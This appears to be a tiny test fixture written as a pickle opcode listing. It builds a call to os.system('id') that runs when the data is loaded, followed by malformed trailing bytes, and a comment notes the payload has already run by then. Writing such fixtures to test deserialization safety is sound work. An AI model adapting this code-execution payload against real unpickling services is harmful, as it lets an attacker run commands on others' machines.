# dangerous: the payload has run by then
PROTO 4
GLOBAL os system
SHORT_BINUNICODE "id"
TUPLE1
REDUCE
RAW 8effffffffffffffff
STOP
